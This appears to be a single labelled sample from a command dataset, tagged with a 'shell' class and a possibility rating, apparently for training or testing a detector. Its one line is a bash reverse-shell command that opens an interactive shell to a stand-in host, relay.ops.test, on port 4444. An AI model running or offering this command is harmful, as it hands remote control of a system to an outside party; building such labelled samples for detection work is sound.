# class: shell; possible: low medium
bash -i >& /dev/tcp/relay.ops.test/4444 0>&1
